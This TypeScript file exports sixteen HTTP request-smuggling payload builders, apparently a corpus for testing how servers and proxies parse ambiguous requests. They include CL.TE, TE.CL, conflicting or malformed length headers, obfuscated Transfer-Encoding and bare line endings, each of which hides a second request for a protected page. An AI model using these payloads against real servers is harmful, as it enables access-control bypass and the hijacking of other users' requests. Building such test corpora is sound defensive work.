/** Requests that two servers may read differently: what one takes for a body, the other takes for a second request. */

/** Bytes as a client sends them. `second` in them asks for the hidden page. */
export interface Smuggled {
  readonly name: string
  readonly of: (head: string, second: string) => string
}

const smuggled = (name: string, of: Smuggled["of"]): Smuggled => ({ name, of })

const length = (text: string): string => `Content-Length: ${Buffer.byteLength(text)}\r\n`

const chunked = "Transfer-Encoding: chunked\r\n"

/** The attacks. `head` ends the line of the host; every attack ends its head itself. */
export const smuggledRequests: ReadonlyArray<Smuggled> = [
  smuggled("Content-Length and Transfer-Encoding (CL.TE)", (head, second) => {
    const body = `0\r\n\r\n${second}`
    return `${head}${length(body)}${chunked}\r\n${body}`
  }),
  smuggled("Transfer-Encoding and Content-Length (TE.CL)", (head, second) => {
    const chunk = `${Buffer.byteLength(second).toString(16)}\r\n`
    return `${head}${chunked}Content-Length: ${chunk.length}\r\n\r\n${chunk}${second}\r\n0\r\n\r\n`
  }),
  smuggled("two lengths that differ", (head, second) => `${head}Content-Length: 0\r\n${length(second)}\r\n${second}`),
  smuggled("two lengths that agree", (head, second) => `${head}${length(second)}${length(second)}\r\n${second}`),
  smuggled("two lengths in one line", (head, second) => `${head}Content-Length: 0, ${Buffer.byteLength(second)}\r\n\r\n${second}`),
  smuggled("a length with a sign", (head, second) => `${head}Content-Length: +${Buffer.byteLength(second)}\r\n\r\n${second}`),
  smuggled("a folded header", (head, second) => `${head}X-One: a\r\n ${chunked}${length(second)}\r\n${second}`),
  smuggled("a folded Transfer-Encoding", (head, second) => `${head}Transfer-Encoding:\r\n chunked\r\n${length(second)}\r\n${second}`),
  smuggled("a blank before the colon", (head, second) => `${head}Transfer-Encoding : chunked\r\n${length(second)}\r\n0\r\n\r\n${second}`),
  smuggled("another Transfer-Encoding", (head, second) => `${head}Transfer-Encoding: xchunked\r\n${length(second)}\r\n${second}`),
  smuggled("lines that end with LF alone", (head, second) => `${head}${length(second)}\r\n${second}`.replaceAll("\r\n", "\n")),
  smuggled("a line that ends with CR alone", (head, second) => `${head}X-One: a\r${chunked}${length(second)}\r\n${second}`),
  smuggled("a chunk with a bare LF", (head, second) => `${head}${chunked}\r\n0\n\n${second}`),
  smuggled("a size of a chunk that is no number", (head, second) => `${head}${chunked}\r\n0x0\r\n\r\n${second}`),
  smuggled("a header of 100 kB", (head, second) => `${head}X-One: ${"a".repeat(100_000)}\r\n\r\n${second}`),
  smuggled("a null byte in a header", (head, second) => `${head}X-One: a\0b\r\n${length(second)}\r\n${second}`)
]
